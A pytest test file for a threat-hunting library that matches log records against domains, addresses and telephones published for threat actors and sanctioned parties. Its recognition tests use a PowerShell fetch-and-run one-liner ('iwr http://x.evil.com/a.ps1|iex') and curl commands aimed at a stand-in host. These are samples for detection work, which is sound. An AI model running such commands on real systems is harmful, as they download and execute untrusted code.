"""Contact with what is published for designated parties and actors, in any field of any log."""

from __future__ import annotations

import datetime

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.hunt import Hunts, Watch, Watched, watch_of
from tocsin.hunt.kept import EACH
from tocsin.hunt.watch import Statement
from tocsin.knowledge import Graph
from tocsin.knowledge.tables import grouped, packed
from tocsin.logs import Event, Value, batch_of, batches_of
from tocsin.model import ActorTie, Asset, Designation, Finding, Indicator, Organisation, Party, PartyTie, Trait

START = datetime.datetime(2026, 3, 2, 9, tzinfo=datetime.UTC)
ACTOR = ActorTie(ref="G0128", name="APT31", why="published", shared_by=0)
PARTY = PartyTie(ref="party:x", name="X Ltd", why="published", lists=("EU-CYB",))
RECENT = Statement("Mandiant", "C2 domain", "2026-01-10", "https://example.org/a")
AGED = Statement("Mandiant", "C2 domain", "2019-07", "https://example.org/b")
EVIL = Watched("evil.com", "domain", actors=(ACTOR,), statements=(RECENT,))


def host(value: str = "evil.com") -> Watched:
    return EVIL._replace(value=value)


def address(value: str) -> Watched:
    return EVIL._replace(value=value, kind="network" if "/" in value else "address")


def texts(watch: Watch, text: str) -> list[str]:
    return [match.watched.value for match in watch.find(text)]


def event(
    fields: dict[str, Value],
    service: str = "",
    *,
    host: str | None = "pc1",
    product: str = "windows",
    time: datetime.datetime | None = START,
) -> Event:
    return Event("a.log", "1", time, host, None, product, "", service, fields)


def zeek(service: str, **fields: str) -> Event:
    named = {"id_orig_h": "id.orig_h", "id_resp_h": "id.resp_h", "id_resp_p": "id.resp_p"}
    values: dict[str, Value] = {named.get(name, name): value for name, value in fields.items()}
    return event(values, service, host=None, product="zeek")


def hunted(watched: list[Watched], *events: Event, organisation: Organisation | None = None) -> list[Finding]:
    hunts = Hunts(organisation or Organisation(name=""), address_kinds=None, watch=Watch(watched))
    for batch in batches_of(events, size=3):
        hunts.feed(batch)
    return hunts.findings()


# What is recognised


@pytest.mark.parametrize(
    "text",
    [
        "evil.com",
        "EVIL.com.",
        "a.b.evil.com",
        ".evil.com",
        "https://evil.com/a?b=c",
        "http://u:p@evil.com:8080/",
        "evil.com:443",
        "sends to <root@evil.com>",
        'powershell -c "iwr http://x.evil.com/a.ps1|iex"',
        "redirect=https%3A%2F%2Fevil.com%2Flogin",
        "a\nevil.com\tb",
        "(evil.com)",
        "evil.com, and more",
        "[evil.com]",
    ],
)
def test_a_watched_host_or_one_below_it_is_recognised(text: str) -> None:
    assert texts(Watch([host()]), text) == ["evil.com"]


@pytest.mark.parametrize(
    "text",
    [
        "notevil.com",
        "not-evil.com",
        "evil.com.example.org",
        "evil.community",
        "evil.com-cdn.net",
        "evil_com",
        "evil.com@example.org",
        "www.evil.com@example.org",
        "evil",
        "com",
        "ñevil.com",
        "",
        "e.v.i.l.com",
    ],
)
def test_part_of_another_name_is_not(text: str) -> None:
    assert texts(Watch([host()]), text) == []


def test_the_most_specific_thing_counts_and_each_once() -> None:
    watch = Watch([host(), host("c2.evil.com"), EVIL._replace(value="li@evil.com", kind="email")])
    assert texts(watch, "c2.evil.com and x.c2.evil.com") == ["c2.evil.com"]
    assert texts(watch, "from li@evil.com via mail.evil.com") == ["li@evil.com", "evil.com"]
    assert texts(watch, "ali@evil.com") == ["evil.com"]


def test_addresses_in_any_writing_and_in_blocks() -> None:
    watch = Watch([address("192.88.99.7"), address("192.88.98.0/24"), address("2002:c058:6301::5")])
    for text in ("192.88.99.7", "192.88.99.7:443", "::ffff:192.88.99.7", "to 192.88.99.7.", "http://192.88.99.7/x"):
        assert texts(watch, text) == ["192.88.99.7"]
    assert texts(watch, "192.88.98.200") == ["192.88.98.0/24"]
    for text in ("2002:c058:6301:0:0:0:0:5", "[2002:C058:6301::5]:443", "2002:c058:6301::5%eth0"):
        assert texts(watch, text) == ["2002:c058:6301::5"]
    for text in ("192.88.99.70", "1.192.88.99.7", "192.88.99.7.example.org", "12:34:56", "2002:c058:6301::55"):
        assert texts(watch, text) == []


def test_names_in_other_scripts_are_found_by_both_writings() -> None:
    watch = Watch([host("xn--lirkedin-vkb.com"), host("xn--e1afmkfd.xn--p1ai")])
    assert texts(watch, "xn--lirkedin-vkb.com") == ["xn--lirkedin-vkb.com"]
    assert texts(watch, "https://пример.рф/") == ["xn--e1afmkfd.xn--p1ai"]


def test_where_anybody_may_publish_the_path_must_match() -> None:
    watch = Watch([EVIL._replace(value="github.com/evil/tool", kind="url")])
    assert texts(watch, "git clone https://github.com:443/Evil/tool.git") == ["github.com/evil/tool"]
    assert texts(watch, "https://github.com/good/tool github.com") == []


def test_a_text_made_to_stall_a_search_is_looked_through_at_once() -> None:
    watch = Watch([host(), EVIL._replace(value="a@evil.com", kind="email"), address("192.88.98.0/24")])
    assert texts(watch, "a." * 300_000 + "evil.com") == ["evil.com"]
    assert texts(watch, "a." * 300_000 + "com@") == texts(watch, "%41" * 300_000 + ".com") == []


LABEL = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,6}[a-z0-9])?", fullmatch=True)
NAME = st.lists(LABEL, min_size=1, max_size=3).map(lambda labels: ".".join([*labels, "com"]))


@given(NAME, NAME, st.sampled_from(["", " ", "/", "=", '"', ".", "-", "x", "@", "_", "é"]))
def test_a_name_is_found_only_as_a_whole_or_below(watched: str, other: str, before: str) -> None:
    assert texts(Watch([host(watched)]), f"GET http://{watched}/") == [watched]
    found = texts(Watch([host(watched)]), f"see {other} ")
    assert bool(found) == (other == watched or other.endswith("." + watched))
    joined = texts(Watch([host(watched)]), f"a{before}{watched} ")
    assert bool(joined) == (before in (" ", "/", "=", '"', ".", "@"))


@given(st.text(max_size=200))
def test_any_text_can_be_looked_through(text: str) -> None:
    watch = Watch([host(), address("192.88.98.0/24"), address("2002:c058:6301::5")])
    for match in watch.find(text):
        assert match.text in text.lower()


# What is watched


def test_contacts_of_listed_parties_and_traits_of_actors_are_watched(graph: Graph) -> None:
    watched = {one.value: one for one in watch_of(graph).watched}
    company = watched["integritytech.com.cn"]
    assert company.on_list and company.is_site
    assert [(one.ref, "EU-CYB" in one.lists) for one in company.parties] == [("party:integrity-technology-group", True)]
    relay = watched["gitcloudcache.com"]
    assert [(one.ref, one.shared_by) for one in relay.actors] == [("G0128", 0)]
    assert relay.statements[0].by == "Positive Technologies" and relay.statements[0].published == "2021-08-03"
    assert watched["45.77.231.209"].kind == "address"
    assert watched["ptsecurity.com"].kind == "domain"  # published with www
    assert watched["isoon2015@126.com"].kind == "email"


def test_no_parent_is_watched_that_others_live_under(graph: Graph) -> None:
    values = {one.value for one in watch_of(graph).watched}
    assert "agentappservice.ddns.net" in values
    assert not values & {"com", "com.cn", "ddns.net", "glitch.me", "126.com", "163.com", "yahoo.com", "gmail.com"}
    watched = {one.value: one for one in watch_of(graph).watched}
    assert watched["files.catbox.moe"].shared
    assert not watched["agentappservice.ddns.net"].shared


def small(graph: Graph, parties: list[Party], designations: list[Designation], traits: list[Trait]) -> Graph:
    """The same graph with these parties and traits only."""
    tables = msgspec.structs.replace(
        graph.tables,
        parties=packed(parties, lambda one: one.ref),
        designations=grouped(designations, lambda one: one.ref),
        traits=grouped(traits, lambda one: one.actor),
    )
    return Graph(tables)


def listed(ref: str, delisted: str | None = None) -> Designation:
    return Designation(
        ref=ref, authority="EU", list="EU-CYB", programme="CYB", listed="2026-03-16", delisted=delisted, by="Council"
    )


def test_mail_domains_of_one_party_are_watched_weakly_and_those_of_several_not(graph: Graph) -> None:
    parties = [
        Party(ref="party:a", name="A", emails=("ceo@a-works.ru", "a@provider.ru", "a@gmail.com")),
        Party(
            ref="party:b", name="B", emails=("b@provider.ru",), domains=("http://www.b-works.ru/en", "facebook.com/bw")
        ),
        Party(ref="party:c", name="C", domains=("c-works.ru",)),
    ]
    made = small(graph, parties, [listed("party:a"), listed("party:b"), listed("party:c", delisted="2026-05-01")], [])
    watched = {one.value: one for one in watch_of(made).watched}
    mails = {"ceo@a-works.ru", "a@provider.ru", "a@gmail.com", "b@provider.ru"}
    assert set(watched) == mails | {"a-works.ru", "b-works.ru", "facebook.com/bw"}
    assert watched["a-works.ru"].shared and not watched["b-works.ru"].shared


def test_a_thing_published_for_several_actors_says_how_many_share_it(graph: Graph) -> None:
    traits = [
        Trait(actor=ref, kind="domain", value="Shared-C2.com", says="C2", by="Vendor", published="2026-01-01")
        for ref in ("G0128", "G0096", "G0049")
    ]
    traits.append(Trait(actor="G0128", kind="file", value="evil.com", says="a file is no contact"))
    (one,) = watch_of(small(graph, [], [], traits)).watched
    assert one.value == "shared-c2.com"
    assert [tie.shared_by for tie in one.actors] == [2, 2, 2]


def test_what_a_report_calls_malicious_is_watched_as_no_authority_says(graph: Graph) -> None:
    def named(kind: str, value: str, role: str = "malicious") -> Indicator:
        return Indicator(kind=kind, value=value, text=value, start=0, end=1, role=role)  # type: ignore[arg-type]

    indicators = [
        named("url", "http://bad.example.net/a/b.php"),
        named("ipv4", "192.88.99.7"),
        named("ipv6", "2002:c058:6301::5"),
        named("cidr", "192.88.98.0/24"),
        named("domain", "gitcloudcache.com"),
        named("domain", "github.com"),
        named("url", "https://pastebin.com/raw/Abc"),
        named("domain", "news.example.org", "reference"),
        named("sha256", "00" * 32),
    ]
    values = {one.value: one for one in watch_of(small(graph, [], [], []), indicators).watched}
    assert set(values) == {
        "bad.example.net", "192.88.99.7", "2002:c058:6301::5", "192.88.98.0/24", "gitcloudcache.com",
        "pastebin.com/raw/abc",
    }  # fmt: skip
    assert all(one.named_by == "report" for one in values.values())
    assert {one.value: one for one in watch_of(graph, indicators).watched}["gitcloudcache.com"].named_by == "authority"


# What is found


def test_a_connection_to_fresh_infrastructure_is_high_and_explained() -> None:
    events = [
        zeek("dns", id_orig_h="10.0.0.6", id_resp_h="10.0.0.1", query="c2.evil.com"),
        zeek("ssl", id_orig_h="10.0.0.6", id_resp_h="192.88.99.7", id_resp_p="443", server_name="c2.evil.com"),
        zeek("ssl", id_orig_h="10.0.0.7", id_resp_h="192.88.99.7", server_name="good.com"),
    ]
    (found,) = hunted([EVIL], *events)
    assert found.title == "10.0.0.6 connected to evil.com, published for APT31"
    assert (found.severity, found.confidence, found.techniques) == ("high", "high", ("T1071.001",))
    assert found.actors == (ACTOR,) and found.parties == ()
    assert (found.hunt, found.host, len(found.evidence)) == ("contacts", "10.0.0.6", 2)
    parts = [part for part in found.why[0].parts if part.met]
    assert found.why[0].value == pytest.approx(sum(part.weight or 0 for part in parts)) == 0.8
    assert "looked up: 1" in found.why[2].says and "c2.evil.com in query" in found.why[2].says
    assert found.why[1].evidence[0].url == "https://example.org/a"


@pytest.mark.parametrize(
    ("made", "words", "severity"),
    [
        (event({"EventID": "3", "DestinationHostname": "evil.com"}), "connected to", "high"),
        (event({"EventID": "5157", "DestAddress": "evil.com"}), "tried to connect to", "medium"),
        (event({"EventID": "22", "QueryName": "a.evil.com"}), "looked up", "medium"),
        (event({"EventID": "4104", "ScriptBlockText": "iwr evil.com"}), "mentioned in a command", "medium"),
        (event({"Description": "see evil.com"}), "mentioned", "low"),
        (event({"EventID": "4624", "IpAddress": "evil.com"}), "had a sign-in from", "high"),
        (zeek("smtp", mailfrom="<a@evil.com>", id_orig_h="10.0.0.6"), "exchanged mail with", "high"),
        (zeek("http", host="evil.com", id_orig_h="10.0.0.6"), "connected to", "high"),
        (zeek("dns", query="x", answers="evil.com", id_orig_h="10.0.0.6"), "looked up", "medium"),
    ],
)
def test_the_form_of_contact_is_said_and_weighs(made: Event, words: str, severity: str) -> None:
    (found,) = hunted([EVIL], made)
    assert f" {words} evil.com" in found.title
    assert found.severity == severity


def test_connections_by_their_state_and_direction() -> None:
    bad = [address("192.88.99.7")]

    def seen(orig: str, resp: str, state: str) -> Finding:
        (found,) = hunted(bad, zeek("conn", id_orig_h=orig, id_resp_h=resp, conn_state=state))
        return found

    assert seen("10.0.0.6", "192.88.99.7", "SF").title.startswith("10.0.0.6 connected to 192.88.99.7")
    assert seen("10.0.0.6", "192.88.99.7", "S0").title.startswith("10.0.0.6 tried to connect to 192.88.99.7")
    inward = seen("192.88.99.7", "198.51.100.10", "SF")
    assert inward.host == "198.51.100.10" and "was reached from 192.88.99.7" in inward.title


def test_a_scan_from_outside_is_one_weak_finding_whatever_it_tried() -> None:
    tried = [zeek("conn", id_orig_h="192.88.99.7", id_resp_h=f"198.51.100.{n}", conn_state="REJ") for n in range(50)]
    (found,) = hunted([address("192.88.99.7")], *tried)
    assert found.title.startswith("50 hosts saw failed tries from")
    assert found.severity == "low" and found.host is None


def test_a_listed_partys_own_site_is_a_question_for_compliance() -> None:
    site = Watched("x-ltd.com", "domain", parties=(PARTY,), statements=(RECENT,), on_list=True)
    (found,) = hunted([site], event({"DestinationHostname": "www.x-ltd.com"}))
    assert (found.severity, found.techniques, found.parties) == ("medium", (), (PARTY,))
    assert "(on EU-CYB)" in found.title
    assert any("compliance" in step and "EU-CYB" in step for step in found.next)


def test_old_shared_and_merely_reported_things_weigh_less() -> None:
    fresh = event({"DestinationHostname": "evil.com"})
    (old,) = hunted([EVIL._replace(statements=(AGED,))], fresh)
    assert (old.severity, old.confidence) == ("medium", "low")
    assert any("published 2019-07" in part.says and "changes hands" in part.says for part in old.why[0].parts)
    assert any("changed hands" in other for other in old.could_also_be)
    (shared,) = hunted([EVIL._replace(shared=True)], fresh)
    assert (shared.severity, shared.confidence) == ("low", "low")
    (reported,) = hunted([EVIL._replace(actors=(), named_by="report")], fresh)
    assert (reported.severity, reported.confidence, reported.actors) == ("medium", "low", ())
    assert "which the report names as malicious" in reported.title


def test_addresses_age_faster_than_names_and_publications_after_the_contact_are_not_old() -> None:
    half_a_year = Statement("Mandiant", "C2", "2025-09", None)
    (by_name,) = hunted([EVIL._replace(statements=(half_a_year,))], event({"DestinationHostname": "evil.com"}))
    (by_address,) = hunted(
        [address("192.88.99.7")._replace(statements=(half_a_year,))], event({"DestinationIp": "192.88.99.7"})
    )
    assert (by_name.confidence, by_address.confidence) == ("high", "low")
    before = event({"DestinationIp": "192.88.99.7"}, time=START - datetime.timedelta(days=900))
    (earlier,) = hunted([address("192.88.99.7")._replace(statements=(half_a_year,))], before)
    assert earlier.confidence == "moderate"


def test_own_and_local_addresses_are_never_watched() -> None:
    ours = Organisation(name="Acme", internal=("198.51.100.0/24",))
    for value in ("198.51.100.7", "127.0.0.1", "224.0.0.1"):
        assert hunted([address(value)], event({"DestinationIp": value}), organisation=ours) == []
    assert hunted([address("10.1.2.3")], event({"DestinationIp": "10.1.2.3"})) == []


def test_hosts_are_named_by_their_asset_and_fields_may_be_lists() -> None:
    acme = Organisation(name="Acme", assets=(Asset(name="sql01", addresses=("10.0.0.20",)),))
    made = zeek("dns", id_orig_h="10.0.0.20", query="a.example.org")
    made.fields["answers"] = ["192.88.99.1", "evil.com"]
    (found,) = hunted([EVIL], made, organisation=acme)
    assert found.host == "sql01" and found.evidence[0].fields["answers"] == ["192.88.99.1", "evil.com"]


def test_two_watched_things_in_one_record_are_two_findings() -> None:
    first, second = hunted([EVIL, host("bad.net")], event({"CommandLine": "curl evil.com bad.net"}))
    assert first.id != second.id


def test_the_same_records_met_again_are_the_same_finding() -> None:
    made = event({"QueryName": "evil.com"})
    (first,) = hunted([EVIL], made)
    (second,) = hunted([EVIL], made._replace(file="copy.log"))
    assert first.id == second.id


def test_evidence_has_a_bound_and_says_when_it_was_met() -> None:
    batch = batch_of([event({"QueryName": "evil.com"})] * 3000)
    hunts = Hunts(Organisation(name=""), address_kinds=None, watch=Watch([EVIL]))
    for _ in range(4):
        hunts.feed(batch)
    (found,) = hunts.findings()
    assert len(found.evidence) == EACH
    assert found.why[3].says == "12,000 records; the first 10,000 stand in the evidence"


def test_long_values_are_cut_around_what_was_recognised() -> None:
    (found,) = hunted([EVIL], event({"ScriptBlockText": "a " * 50_000 + "iwr http://evil.com/x " + "b " * 50_000}))
    kept = found.evidence[0].fields["ScriptBlockText"]
    assert "http://evil.com/x" in kept and len(kept) < 500


def test_nothing_watched_and_nothing_in_a_record_are_no_error() -> None:
    assert hunted([], event({"QueryName": "evil.com"})) == []
    assert hunted([EVIL], event({}), event({"a": ["", "x"]})) == []


PHONE = Watched("700000001", "phone", parties=(PARTY,), statements=(RECENT,), on_list=True)


@pytest.mark.parametrize("written", ["+98 700 000 001", "0098700000001", "(0)700-000-001"])
def test_a_listed_partys_telephone_is_found_in_fields_of_telephones_however_written(written: str) -> None:
    (found,) = hunted([PHONE], event({"phoneNumber": written, "Operation": "Update user."}))
    assert found.parties == (PARTY,)
    assert "telephone number" in found.title and "(on EU-CYB)" in found.title


@pytest.mark.parametrize("fields", [{"TicketNumber": "700000001"}, {"phoneNumber": "+98 700 000 002"}, {"phone": "1"}])
def test_other_numbers_are_no_telephone_of_theirs(fields: dict[str, Value]) -> None:
    assert hunted([PHONE], event(fields)) == []


def test_telephones_of_listed_parties_are_watched(graph: Graph) -> None:
    party = Party(ref="party:x", name="X Ltd", phones=("+98 (700) 000-001", "12"))
    watch = watch_of(small(graph, [party], [listed("party:x")], []))
    assert [(one.value, one.kind) for one in watch.watched] == [("700000001", "phone")]
